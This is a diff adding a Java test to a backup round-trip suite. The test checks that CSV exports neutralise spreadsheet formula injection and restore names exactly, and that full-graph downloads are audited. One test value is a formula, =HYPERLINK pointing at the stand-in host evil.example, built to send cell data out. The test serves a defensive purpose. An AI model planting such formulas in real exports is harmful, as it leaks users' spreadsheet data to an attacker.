@@ -95,6 +95,34 @@ class BackupRoundTripTests {
 			.statusCode()).isEqualTo(400);
 	}
 
+	/**
+	 * Text that a spreadsheet would run as a formula is written neutralised, numbers (a negative longitude) as
+	 * numbers, and the restore gives the text back exactly. Every download of the whole graph is audited.
+	 */
+	@Test
+	void writesFormulasAsTextThatComesBackExactlyAndAuditsTheDownload() throws Exception {
+		String link = "=HYPERLINK(\"http://evil.example/?\"&A1)";
+		this.admin.importCsv("villages", "code,name,town_code,latitude,longitude\n610322100999,\"%s\",610322100,34.5,-3.5\n"
+			.formatted(link.replace("\"", "\"\"")));
+		this.admin.importCsv("villages", "code,name,town_code\n610322100998,''@SUM(A1),610322100\n");
+
+		byte[] backup = exportAll("admin", GraphTest.ADMIN_PASSWORD).body();
+		String villages = unzip(backup).get("villages.csv");
+		assertThat(villages).contains("610322100999,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",610322100,VILLAGE,,34.5,-3.5\r\n")
+			.contains("610322100998,''@SUM(A1),610322100,");
+		var log = this.admin.graphQl()
+			.document("{ auditLog(filter: {operation: \"export\"}) { edges { node { username kind } } } }")
+			.executeSync();
+		assertThat(values(log, "auditLog.edges[*].node.kind")).containsExactly("all");
+		assertThat(values(log, "auditLog.edges[*].node.username")).containsExactly("admin");
+
+		TestGraph.empty(this.neo4j);
+		assertThat(post("/api/import/all", backup, "admin", GraphTest.ADMIN_PASSWORD).statusCode()).isEqualTo(200);
+		assertThat(this.neo4j.query("MATCH (v:Village) WHERE v.code IN ['610322100999', '610322100998'] RETURN v.name ORDER BY v.code DESC")
+			.fetchAs(String.class)
+			.all()).containsExactly(link, "'@SUM(A1)");
+	}
+
 	private Map<String, String> counts() {
 		var counts = new TreeMap<String, String>();
 		this.neo4j.query("""
